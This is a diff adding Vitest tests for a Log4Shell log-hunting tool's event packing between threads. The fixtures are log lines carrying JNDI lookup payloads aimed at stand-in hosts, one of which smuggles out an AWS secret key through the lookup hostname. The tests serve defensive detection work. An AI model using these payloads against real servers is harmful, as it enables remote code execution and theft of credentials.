@@ -1,0 +1,77 @@
+import { expect, test } from 'vitest'
+import { huntIn } from '../../../test/kit/hunting.ts'
+import type { AttackFinding } from '../../core/index.ts'
+import { type Readings, RecentlyRead } from '../../hunt/index.ts'
+import type { HuntEvent } from './hunt-event.ts'
+import { EventPacker, EventUnpacker } from './packed-events.ts'
+
+const readings: Readings = new RecentlyRead()
+
+/** What a hunt tells of a log, several times over as one thread may. */
+function told(log: string): readonly HuntEvent[] {
+  return huntIn(log, { readings }).findings.map((finding): HuntEvent => ({ is: 'finding', finding }))
+}
+
+/** As another thread would get it: of copies. */
+function sent(batches: readonly (readonly HuntEvent[])[]): { events: readonly HuntEvent[]; whole: number } {
+  const packer = new EventPacker()
+  const unpacker = new EventUnpacker()
+  const packed = batches.map((events) => structuredClone(packer.pack(events)))
+  return {
+    events: packed.flatMap((each) => unpacker.unpack(each)),
+    whole: packed.reduce((sum, { whole }) => sum + whole.length, 0),
+  }
+}
+
+const line = (number: number, payload: string): string =>
+  `203.0.113.${number % 250} - - [12/Dec/2021:04:25:${10 + (number % 40)} +0000] "GET /${number} HTTP/1.1" 200 1 "-" "${payload}"\n`
+
+test('a spray arrives as it was told, and what its findings share is sent once', () => {
+  const payloads = [
+    '${jndi:ldap://a.example/x}',
+    '%24%7Bjndi:ldap://${env:AWS_SECRET_KEY}.example%7D',
+    '${jndi:LDAP://b}',
+  ]
+  const log = Array.from({ length: 600 }, (_, i) => line(i, payloads[i % 3] ?? '')).join('')
+  const events = told(log)
+  const batches = [events.slice(0, 250), events.slice(250)]
+
+  const arrived = sent(batches)
+  expect(events).toHaveLength(600)
+  expect(arrived.events).toEqual(events)
+  expect(arrived.whole).toBe(3)
+})
+
+test('gaps, notes and evidence keep their place among attacks', () => {
+  const [attack, again] = told(line(1, '${jndi:ldap://a.example/x}').repeat(2))
+  const [evidence] = told('2021-12-10 WARN Error looking up JNDI resource [ldap://a.example/x].\n')
+  const gap: HuntEvent = { is: 'gap', gap: { at: 'a', because: 'malformed', detail: 'b' } }
+  const events = [attack, gap, again, evidence, { is: 'note', text: 'n' }].filter((each) => each !== undefined)
+
+  expect(sent([events as readonly HuntEvent[]]).events).toEqual(events)
+})
+
+test('more different attacks than are remembered arrive as they were told, also those that come again', () => {
+  const names = Array.from({ length: 5_000 }, (_, i) => line(i, `\${jndi:ldap://a${i}.example/x}`))
+  const events = told([...names, ...names.slice(0, 500), ...names.slice(-500)].join(''))
+
+  expect(events).toHaveLength(6_000)
+  expect(sent([events.slice(0, 4_999), events.slice(4_999)]).events).toEqual(events)
+})
+
+test('findings that differ in what is shared otherwise are told apart', () => {
+  const [event] = told(line(1, '${jndi:ldap://a.example/x}'))
+  if (event?.is !== 'finding') throw new Error('nothing was found')
+  const others = [
+    { outcome: 'likely' },
+    { scanner: 'ours' },
+    { lookup: { ...event.finding.lookup, times: 9 } },
+    { evidence: [...event.finding.evidence, { kind: 'decoding', layers: ['html'], text: 'x' }] },
+  ] as readonly Partial<AttackFinding>[]
+  const events = [
+    event,
+    ...others.map((other): HuntEvent => ({ is: 'finding', finding: { ...event.finding, ...other } })),
+  ]
+
+  expect(sent([events]).events).toEqual(events)
+})
